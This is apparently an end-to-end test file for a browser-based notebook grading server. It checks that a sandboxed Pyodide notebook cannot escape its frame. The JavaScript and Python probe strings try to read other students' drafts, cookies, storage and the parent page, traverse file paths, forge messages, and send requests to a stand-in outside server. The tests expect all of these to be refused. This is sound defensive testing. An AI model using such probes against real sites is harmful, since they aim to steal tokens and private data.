"""A notebook in the browser alone: the exported page on a real assignment server, in Chromium.

Pyodide comes from its npm package, which is fetched once into ``.tools/``, and the other packages
from PyPI; so these are tests of `make test-long`. Python takes tens of seconds to start there.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Page, expect
from starlette.responses import PlainTextResponse
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from bench.support.browser import People, Person, insert, notebook
from mograder.core.names import ItemName
from mograder.publishing.browser.export import export_page
from mograder.publishing.browser.frame import marimo_pyodide_version
from mograder.web.server.app import create_app
from mograder.web.server.services import ServerOptions, open_services
from tests.e2e.test_accessibility import violations
from tests.support.pyodide import unpacked_pyodide
from tests.support.served_course import (
    CODE,
    Course,
    make_course,
    serving_app,
    serving_course,
    token_of,
)

START_MS = 240_000
WIDTHS = ((1280, "light"), (390, "dark"))
NOTEBOOK = """\
# /// script
# dependencies = ["marimo", "mograder"]
# ///

import marimo

app = marimo.App(width="medium")


@app.cell
def _():
    from pathlib import Path

    from mograder.runtime import check

    return Path, check


@app.cell
def _():
    mean = ...
    return (mean,)


@app.cell
def _(Path, check, mean):
    rows = len(Path("data.csv").read_text().splitlines())
    check("Q1: The mean", [] if mean is ... else [(mean == 4, f"the mean of {rows} rows is 4")])
    return


if __name__ == "__main__":
    app.run()
"""
# What a notebook's JavaScript may try, in the page of the frame and in its worker.
ATTEMPTS = """\
async ([server, elsewhere]) => {
  const found = {};
  const attempt = async (name, act) => {
    try {
      found[name] = String(await act());
    } catch (error) {
      found[name] = "refused";
    }
  };
  const opened = (name) => new Promise((resolve, reject) => {
    const request = indexedDB.open(name);
    request.onsuccess = () => resolve([...request.result.objectStoreNames].join());
    request.onerror = () => reject(new Error("no"));
  });
  const status = async (url) => (await fetch(url)).status;
  await attempt("assignments", () => status(server + "/assignments"));
  await attempt("draft", () => status(server + "/assignments/hw1/draft?user=alice"));
  await attempt("elsewhere", () => status(elsewhere));
  await attempt("database", () => opened("mograder"));
  await attempt("page", () => parent.document.body.textContent);
  await attempt("storage", () => parent.localStorage.length);
  await attempt("top", () => { top.location = elsewhere; return top.location.href; });
  await attempt("window", () => open(elsewhere).closed);
  await attempt("service worker", () => navigator.serviceWorker.register(server + "/web/files/x"));
  await attempt("script", () => import(elsewhere));
  await attempt("socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket(elsewhere.replace("http", "ws"));
    socket.onopen = () => resolve("open");
    socket.onerror = () => reject(new Error("no"));
  }));
  await attempt("form", () => {
    const form = document.createElement("form");
    Object.assign(form, { action: elsewhere, method: "post" });
    document.body.append(form);
    form.submit();
    throw new Error("the other server tells whether it came");
  });
  const marks = ["img src", "iframe src", "embed src", "script src", "video src"];
  marks.push("link rel=prefetch href", "link rel=stylesheet href", "link rel=preconnect href");
  for (const mark of marks) {
    const place = document.createElement("div");
    place.innerHTML = `<${mark}="${elsewhere}/${mark.split(" ")[0]}">`;
    document.body.append(place);
  }
  navigator.sendBeacon?.(elsewhere, "x");
  // The page around hands in the files of the frame, and nothing else.
  const { port1, port2 } = new MessageChannel();
  parent.postMessage({ mograder: "files" }, "*", [port2]);
  const ask = (path) => new Promise((resolve, reject) => {
    port1.onmessage = ({ data }) => (data.blob ? resolve(data.blob.size) : reject(new Error("no")));
    port1.postMessage({ id: 1, path });
  });
  const frame = location.pathname.split("/").at(-2);
  for (const path of [
    "../assignments", "/me", elsewhere, `${frame}/../../../me`, `${frame}/%2e%2e/x`,
    `${frame}/index.html?x`, `${frame}/`, { path: "x" }, null,
  ]) {
    await attempt(`file ${JSON.stringify(path)}`, () => ask(path));
  }
  found.known = (await ask(`${frame}/index.html`)) > 1000;
  found.origin = self.origin;
  return found;
}
"""
# The same in the notebook's Python, which runs in a worker.
PYTHON_ATTEMPTS = """\
import json
import urllib.request

import js
from pyodide.code import run_js
from pyodide.http import open_url, pyfetch

found = {}


async def attempt(name, act):
    try:
        answer = act()
        if hasattr(answer, "then"):
            answer = await answer
        elif hasattr(answer, "__await__"):
            answer = await answer
        found[name] = str(answer)
    except BaseException:
        found[name] = "refused"


opened = run_js('''(name) => new Promise((resolve, reject) => {
  const request = indexedDB.open(name);
  request.onsuccess = () => resolve("open");
  request.onerror = () => reject(new Error("no"));
})''')
linked = run_js('''(url) => new Promise((resolve, reject) => {
  const socket = new WebSocket(url.replace("http", "ws"));
  socket.onopen = () => resolve("open");
  socket.onerror = () => reject(new Error("no"));
})''')
started = run_js('''(url) => new Promise((resolve, reject) => {
  const worker = new Worker(url);
  worker.onmessage = () => resolve("runs");
  worker.onerror = () => reject(new Error("no"));
})''')
fetched = run_js('''(url) => fetch(url, { credentials: "include", mode: "no-cors" })''')
imported = run_js("(url) => import(url)")
for place in (SERVER, ELSEWHERE):
    await attempt(f"fetch {place}", lambda: fetched(f"{place}/me"))
    await attempt(f"pyfetch {place}", lambda: pyfetch(f"{place}/me"))
    await attempt(f"open_url {place}", lambda: open_url(f"{place}/me").read())
    await attempt(f"urllib {place}", lambda: urllib.request.urlopen(f"{place}/me").read())
    await attempt(f"socket {place}", lambda: linked(place))
    await attempt(f"worker {place}", lambda: started(f"{place}/me"))
    await attempt(f"import {place}", lambda: imported(f"{place}/me"))
await attempt("draft", lambda: pyfetch(SERVER + "/assignments/hw1/draft?user=frank"))
await attempt("database", lambda: opened("mograder"))
await attempt("storage", lambda: js.localStorage.length)
await attempt("page", lambda: js.parent.document)
await attempt("cookies", lambda: js.document.cookie)
await attempt("service worker", lambda: js.navigator.serviceWorker.register(SERVER))
await attempt("cache", lambda: js.caches.open("mograder"))
# Forged messages: the worker's are passed on as results only.
run_js('''() => {
  for (const mograder of ["text", "ready", "failed", "files", "open"]) {
    self.postMessage({ mograder, text: "forged", protocol: 2 });
  }
}''')()
print("FOUND", json.dumps(found), "END")
"""

pytestmark = [pytest.mark.long, pytest.mark.timeout(900)]


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A course with one item whose page is exported."""
    root = make_course(tmp_path_factory.mktemp("browser") / "course")
    file = root / "hw1" / "files" / "homework.py"
    file.write_text(NOTEBOOK)
    pyodide = unpacked_pyodide(marimo_pyodide_version())
    export_page(root, ItemName.parse("hw1"), file, pyodide, print)
    return root


@pytest.fixture(scope="module")
def served(exported: Path) -> Iterator[Course]:
    with serving_course(exported, web=True) as course:
        yield course


class Elsewhere:
    """Another server, on another port: another origin. It keeps the paths that it is asked for."""

    def __init__(self) -> None:
        self.url = ""
        self.asked: list[str] = []

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        self.asked.append(scope["path"])
        await PlainTextResponse("elsewhere")(scope, receive, send)


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    app = Elsewhere()
    with serving_app(app) as url:
        app.url = url
        yield app


async def open_item(person: Person, served: Course) -> Page:
    """Open the item's page in a new tab."""
    return await person.open(f"{served.url}/web/items/hw1")


async def sign_in(page: Page, user: str) -> None:
    """Sign in with a token."""
    await page.fill("#token", token_of(user))
    await page.click("#sign-in button")


async def runs(page: Page, text: str = "Checks: 0 of 1 passed") -> None:
    """Wait until the notebook has run."""
    await expect(page.locator("#checks")).to_have_text(text, timeout=START_MS)


async def answer(page: Page, text: str, *, shown: str = "") -> None:
    """Replace the answer's cell and run it; of a long text, the editor has ``shown``."""
    frame = await notebook(page)
    cell = frame.locator(".cm-content").nth(1)
    await cell.click()
    await page.keyboard.press("Control+A")
    await insert(frame, text)
    await expect(cell).to_contain_text(shown or text)
    await page.keyboard.press("Control+Enter")


async def saved(page: Page, where: str) -> None:
    """Wait until the page says where the newest text is."""
    await expect(page.locator("#saved")).to_contain_text(f"Saved {where},", timeout=START_MS)


async def test_enrol_edit_run_check_submit_feedback_with_the_network_cut_and_the_tab_closed(
    served: Course, people: People
) -> None:
    person = await people.person("carol")
    hosts: set[str] = set()
    person.context.on("request", lambda request: hosts.add(urlsplit(request.url).netloc))
    page = await open_item(person, served)
    await page.fill("#name", "carol")
    await page.fill("#code", CODE)
    await page.click("#sign-in button")
    await runs(page)
    assert hosts - {""} == {urlsplit(served.url).netloc}

    await answer(page, "mean = 3")
    await runs(page, "Checks: 0 of 1 passed")
    await saved(page, "in this browser and on the server")
    draft = served.root / ".mograder" / "drafts" / "hw1" / "carol.json"
    assert "mean = 3" in json.loads(draft.read_text())["text"]

    # The network is cut, the work goes on, and the tab is closed.
    await person.context.set_offline(True)
    await answer(page, "mean = 4")
    await runs(page, "Checks: 1 of 1 passed")
    await saved(page, "in this browser")
    await page.click("#submit")
    await expect(page.locator("#said")).to_contain_text("no connection")
    assert "mean = 3" in json.loads(draft.read_text())["text"]
    assert not (served.root / "submitted" / "hw1" / "carol.py").exists()
    await page.close()
    await person.context.set_offline(False)

    again = await open_item(person, served)
    await expect(again.locator("#said")).to_contain_text("Submitted", timeout=START_MS)
    handed = (served.root / "submitted" / "hw1" / "carol.py").read_text()
    assert "mean = 4" in handed
    assert handed.startswith(NOTEBOOK.partition("import marimo")[0])
    assert 'marimo.App(width="medium")' in handed
    await runs(again, "Checks: 1 of 1 passed")
    await saved(again, "in this browser and on the server")
    assert "mean = 4" in json.loads(draft.read_text())["text"]

    await _feedback_is_told(again, served)


async def _feedback_is_told(again: Page, served: Course) -> None:
    """Give a mark and a document, and look at them on the page."""
    (served.root / "hw1" / "grades.json").write_text(
        json.dumps([{"username": "carol", "grade": "9", "feedback": "Well done."}])
    )
    feedback = served.root / "hw1" / "feedback" / "carol.html"
    feedback.parent.mkdir(exist_ok=True)
    feedback.write_text("<p>Your feedback</p>")
    await again.click("#standing")
    panel = again.locator("#panel")
    for text in ("this text", "Mark: 9", "Well done."):
        await expect(panel).to_contain_text(text)
    async with again.expect_download() as download:
        await panel.get_by_text("Download the feedback").click()
    path = await (await download.value).path()
    assert path.read_text() == "<p>Your feedback</p>"


async def test_a_hostile_notebook_reads_neither_token_nor_drafts(
    served: Course, elsewhere: Elsewhere, people: People
) -> None:
    person = await people.person("alice")
    page = await open_item(person, served)
    await sign_in(page, "alice")
    await runs(page)
    frame = await notebook(page)
    found = await frame.evaluate(ATTEMPTS, [served.url, elsewhere.url])
    assert (found.pop("origin"), found.pop("known")) == ("null", True)
    assert {name: outcome for name, outcome in found.items() if outcome != "refused"} == {}
    assert len(found) >= 21
    # In the frame, but not of the frame: its own window may be sent nowhere else.
    await frame.evaluate("url => { location.href = url; }", elsewhere.url)
    await expect(page.locator("#said")).not_to_contain_text("token")
    assert page.url == f"{served.url}/web/items/hw1"
    assert all(each.url != f"{elsewhere.url}/" for each in page.frames)
    assert elsewhere.asked == []


async def test_hostile_python_reads_neither_token_nor_drafts(
    served: Course, elsewhere: Elsewhere, people: People
) -> None:
    person = await people.person("frank")
    page = await open_item(person, served)
    await sign_in(page, "frank")
    await runs(page)
    frame = await notebook(page)
    named = f"SERVER, ELSEWHERE = {served.url!r}, {elsewhere.url!r}\n"
    await answer(page, named + PYTHON_ATTEMPTS, shown="ELSEWHERE")
    told = frame.get_by_text("FOUND {").last
    await expect(told).to_contain_text("END", timeout=START_MS)
    text = (await told.text_content()) or ""
    found = json.loads(text.partition("FOUND ")[2].partition(" END")[0])
    assert {name: outcome for name, outcome in found.items() if outcome != "refused"} == {}
    assert len(found) == 21
    assert elsewhere.asked == []
    await saved(page, "in this browser and on the server")
    await expect(page.locator("#said")).to_have_text("")
    # What was saved is the notebook, not a forged message.
    draft = served.root / ".mograder" / "drafts" / "hw1" / "frank.json"
    assert json.loads(draft.read_text())["text"].startswith("# /// script")


async def test_the_newest_version_is_never_overwritten_in_silence(
    served: Course, people: People
) -> None:
    first, second = await people.person("dora-1"), await people.person("dora-2")
    one = await open_item(first, served)
    await sign_in(one, "dora")
    await runs(one)
    two = await open_item(second, served)
    await sign_in(two, "dora")
    await runs(two)
    await answer(one, "mean = 4")
    await saved(one, "in this browser and on the server")
    await answer(two, "mean = 5")
    await expect(two.locator("#choice")).to_be_visible(timeout=START_MS)
    draft = served.root / ".mograder" / "drafts" / "hw1" / "dora.json"
    assert "mean = 4" in json.loads(draft.read_text())["text"]
    await two.click("#keep-mine")
    await saved(two, "in this browser and on the server")
    assert "mean = 5" in json.loads(draft.read_text())["text"]
    await two.click("#standing")
    await expect(two.locator("#panel")).to_contain_text("Other versions of your work")


async def test_it_works_by_keyboard_on_a_phone_in_the_dark_and_axe_finds_nothing(
    served: Course, people: People, artifacts: Path
) -> None:
    person = await people.person("gina")
    page = await person.context.new_page()
    wrong: list[str] = []

    async def look(state: str) -> None:
        for width, scheme in WIDTHS:
            await page.set_viewport_size({"width": width, "height": 800})
            await page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
            what = f"browser-{state}-{width}-{scheme}"
            await page.screenshot(path=artifacts / f"{what}.png")
            wide = await page.evaluate("document.documentElement.scrollWidth")
            if wide > width:
                wrong.append(f"{what} scrolls sideways: it is {wide} wide")
            wrong.extend(await violations(page, what))

    await page.goto(f"{served.url}/web")
    await look("list")
    await page.get_by_role("link", name="hw1").focus()
    await page.keyboard.press("Enter")
    await expect(page.locator("#token")).to_be_visible()
    await look("sign-in")
    await page.locator("#token").focus()
    await page.keyboard.type("gina:wrong")
    await page.keyboard.press("Enter")
    await expect(page.locator("#refused")).not_to_be_empty()
    await look("refused")
    await page.locator("#token").focus()
    await page.keyboard.press("Control+A")
    await page.keyboard.type(token_of("gina"))
    await page.keyboard.press("Enter")
    await runs(page)
    await look("runs")
    await page.locator("#submit").focus()
    await page.keyboard.press("Enter")
    await expect(page.locator("#said")).to_contain_text("Submitted", timeout=START_MS)
    await page.keyboard.press("Tab")
    await expect(page.locator("#standing")).to_be_focused()
    await page.keyboard.press("Enter")
    panel = page.locator("#panel")
    await expect(panel).to_contain_text("this text")
    await expect(panel).to_be_focused()
    await look("status")
    await page.get_by_role("button", name="Close").focus()
    await page.keyboard.press("Enter")
    await expect(panel).to_be_hidden()
    await expect(page.locator("#standing")).to_be_focused()
    await page.locator("#checks").focus()
    await page.keyboard.press("Enter")
    await expect(panel).to_be_focused()
    await look("checks")
    await page.keyboard.press("Escape")
    await expect(panel).to_be_hidden()
    assert wrong == []


async def test_a_second_visit_loads_almost_nothing(exported: Path, people: People) -> None:
    services = open_services(ServerOptions(exported, web=True))
    counted = Counted(create_app(services))
    with serving_app(counted) as url:
        person = await people.person("erin")
        first, began = await person.open(f"{url}/web/items/hw1"), time.monotonic()
        await sign_in(first, "erin")
        await runs(first)
        seconds = time.monotonic() - began
        await answered_by_both_pythons(first)
        before, counted.sent = counted.sent, 0
        await first.close()
        began = time.monotonic()
        again = await person.open(f"{url}/web/items/hw1")
        await runs(again)
        later = time.monotonic() - began
        await answered_by_both_pythons(again, "mean = 6")
    # Shown by pytest -s, for the documentation.
    print(f"first: {before} bytes, {seconds:.0f} s; second: {counted.sent} bytes, {later:.0f} s")
    assert before > 5_000_000
    assert counted.sent <= before * 0.05


async def answered_by_both_pythons(page: Page, text: str = "mean = 5") -> None:
    """Wait until marimo has saved, for which it starts a Python of its own."""
    await answer(page, text)
    await saved(page, "in this browser and on the server")


class Counted:
    """An application, and how many bytes of bodies it has sent."""

    def __init__(self, app: ASGIApp) -> None:
        self._app = app
        self.sent = 0

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        async def count(message: Message) -> None:
            self.sent += len(message.get("body", b""))
            await send(message)

        await self._app(scope, receive, count)
